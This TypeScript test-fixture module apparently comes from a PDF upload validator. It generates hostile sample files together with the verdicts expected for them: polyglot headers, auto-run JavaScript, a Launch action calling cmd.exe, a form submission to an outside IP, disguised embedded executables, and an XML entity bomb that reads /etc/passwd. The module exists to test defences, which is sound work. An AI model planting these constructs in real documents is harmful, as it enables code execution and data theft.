import { execFileSync } from 'node:child_process'
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { deflateSync } from 'node:zlib'
import type { HostileFile } from './files.ts'
import { greeting, helvetica, onePage, onePager, type Part, paper } from './pdf-builder.ts'

const text: Part = { body: greeting }
const sheet = (more = '') =>
  `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << ${helvetica} >> ${more} >>`
const plain = () => onePager(text)

const withCatalogue = (entries: string, more: Part[] = [], page = '') =>
  paper([`<< /Type /Catalog /Pages 2 0 R ${entries} >>`, onePage, sheet(page), text, ...more])

const script = '<< /S /JavaScript /JS (app.alert\\("hello"\\); while \\(true\\) {}) >>'

const attached = (name: string) =>
  withCatalogue('/Names << /EmbeddedFiles << /Names [(a) 5 0 R] >> >>', [
    `<< /Type /Filespec /F (${name}) /UF (${name}) /EF << /F 6 0 R >> >>`,
    { head: '/Type /EmbeddedFile', body: 'MZ\x90\x00 a program' },
  ])

function inObjectStream(): Buffer {
  const body = `9 0 ${script}`
  const hidden = { head: '/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode', body: deflateSync(body) }
  return withCatalogue('/OpenAction 9 0 R', [hidden])
}

/** As qpdf protects it. */
function protectedBy(...words: string[]): Buffer {
  const folder = mkdtempSync(join(tmpdir(), 'payproof-hostile-'))
  try {
    const [before, after] = [join(folder, 'before.pdf'), join(folder, 'after.pdf')]
    writeFileSync(before, plain())
    execFileSync('qpdf', [...words, before, after])
    return readFileSync(after)
  } finally {
    rmSync(folder, { recursive: true })
  }
}

const beginnings: Record<string, string> = {
  'a ZIP file': 'PK\x03\x04\x14\x00\x00\x00',
  'a program for Windows': 'MZ\x90\x00\x03\x00',
  'a program for Linux': '\x7FELF\x02\x01\x01\x00',
  'a shell script': '#!/bin/sh\nexit 0\n',
  'a web page': '<!doctype html><script>alert(1)</script><!--',
  'a drawing': '<svg xmlns="http://www.w3.org/2000/svg"><!--',
  'a GIF': 'GIF89a\x01\x00\x01\x00',
  'a JPEG': '\xFF\xD8\xFF\xE0\x00\x10JFIF',
  'a PNG': '\x89PNG\r\n\x1A\n',
}

const actions: Record<string, string> = {
  'starts a program': '<< /S /Launch /F (cmd.exe) /Win << /F (cmd.exe) /P (/c calc) >> >>',
  'sends its fields away': '<< /S /SubmitForm /F (http://198.51.100.7/) >>',
  'opens another file': '<< /S /GoToR /F (\\\\\\\\198.51.100.7\\\\share\\\\x.pdf) /D [0 /Fit] >>',
  'opens an address': '<< /S /URI /URI (http://198.51.100.7/) >>',
  'follows itself': '<< /S /GoTo /D [3 0 R /Fit] /Next 5 0 R >>',
}

/** Files that are something else besides, that want to run, or that are locked. */
export const strangers: HostileFile[] = [
  ...Object.entries(beginnings).map(([name, start]) => ({
    name: `stranger: also ${name}`,
    make: () => Buffer.concat([Buffer.from(start, 'latin1'), plain()]),
    answers: ['unsafe', 'not-a-pdf'] as const,
  })),
  {
    name: 'stranger: also a ZIP file at its end',
    make: () => Buffer.concat([plain(), Buffer.from('PK\x05\x06'), Buffer.alloc(18)]),
    answers: ['unsafe'],
  },
  {
    name: 'stranger: a web page that speaks of PDF',
    make: () => Buffer.from('<html>%PDF-1.7 %%EOF</html>'),
    answers: ['unsafe', 'not-a-pdf'],
  },
  { name: 'stranger: nothing', make: () => Buffer.alloc(0), answers: ['not-a-pdf', 'empty', 'broken'] },
  { name: 'stranger: a header', make: () => Buffer.from('%PDF-1.7\n'), answers: ['broken', 'not-a-pdf'] },
  {
    name: 'stranger: a header and an end',
    make: () => Buffer.from('%PDF-1.7\n%%EOF\n'),
    answers: ['broken', 'not-a-pdf'],
  },
  { name: 'stranger: 10 MB of nothing', make: () => Buffer.alloc(10_000_000), answers: ['not-a-pdf'] },
  { name: 'stranger: 10 MB of headers', make: () => Buffer.alloc(10_000_000, '%PDF-1.7\n') },
  {
    name: 'stranger: 10 MB of ends',
    make: () => Buffer.concat([Buffer.from('%PDF-1.7\n'), Buffer.alloc(9_900_000, 'startxref 0 %%EOF ')]),
  },
  {
    name: 'stranger: 10 MB of objects that begin',
    make: () => Buffer.concat([Buffer.from('%PDF-1.7\n'), Buffer.alloc(9_900_000, '1 0 obj ')]),
  },
  {
    name: 'stranger: 10 MB of streams',
    make: () => Buffer.concat([Buffer.from('%PDF-1.7\n'), Buffer.alloc(9_900_000, '1 0 obj<<>>stream\n')]),
  },
  {
    name: 'stranger: more than 10 MB',
    make: () => Buffer.concat([plain(), Buffer.alloc(10_000_000, ' ')]),
    answers: ['too-large'],
  },
  { name: 'runs: a script when it opens', make: () => withCatalogue(`/OpenAction ${script}`) },
  {
    name: 'runs: a script by name',
    make: () => withCatalogue(`/Names << /JavaScript << /Names [(a) ${script}] >> >>`),
  },
  { name: 'runs: a script in an object stream', make: inObjectStream },
  {
    name: 'runs: a script when its page is turned',
    make: () => withCatalogue('', [], `/AA << /O ${script} /C ${script} >>`),
  },
  ...Object.entries(actions).map(([name, action]) => ({
    name: `runs: ${name}`,
    make: () => withCatalogue('/OpenAction 5 0 R', [action]),
    ...(name === 'starts a program' && { answers: ['unsafe'] as const }),
  })),
  { name: 'runs: an attached program', make: () => attached('invoice.exe'), answers: ['unsafe'] },
  {
    name: 'runs: an attached program in disguise',
    make: () => attached('invoice.pdf.scr'),
    answers: ['unsafe'],
  },
  { name: 'runs: an attached table', make: () => attached('figures.csv') },
  {
    name: 'runs: a form of its own language',
    make: () =>
      withCatalogue('/AcroForm << /XFA 5 0 R /Fields [] >>', [
        { body: '<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><script>1</script></xdp:xdp>' },
      ]),
  },
  {
    name: 'runs: XML that includes itself',
    make: () =>
      withCatalogue('/Metadata 5 0 R', [
        {
          head: '/Type /Metadata /Subtype /XML',
          body: `<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b "${'x'.repeat(50)}">${Array.from({ length: 20 }, (_, n) => `<!ENTITY c${n} "${'&b;'.repeat(20)}">`).join('')}<!ENTITY f SYSTEM "file:///etc/passwd">]><x:xmpmeta>&c1;&f;</x:xmpmeta>`,
        },
      ]),
  },
  ...['40', '128', '256'].map((bits) => ({
    name: `locked: by a password of ${bits} bits`,
    make: () => protectedBy('--allow-weak-crypto', '--encrypt', 'secret', 'owner', bits, '--'),
    answers: ['password'] as const,
  })),
  {
    name: 'locked: only against changes',
    make: () => protectedBy('--encrypt', '', 'owner', '256', '--print=none', '--'),
  },
  {
    name: 'locked: in a way that nobody knows',
    make: () =>
      paper([`<< /Type /Catalog /Pages 2 0 R >>`, onePage, sheet(), text], {
        trailer: '/Encrypt << /Filter /Unknown /V 99 /R 99 /O (x) /U (y) /P 0 >> /ID [(a) (b)]',
      }),
  },
  {
    name: 'locked: by a dictionary of nonsense',
    make: () =>
      paper([`<< /Type /Catalog /Pages 2 0 R >>`, onePage, sheet(), text], {
        trailer: '/Encrypt << /Filter /Standard /V 5 /R 6 /O () /U () /P 0 /Length 99999 >> /ID [(a) (b)]',
      }),
  },
]
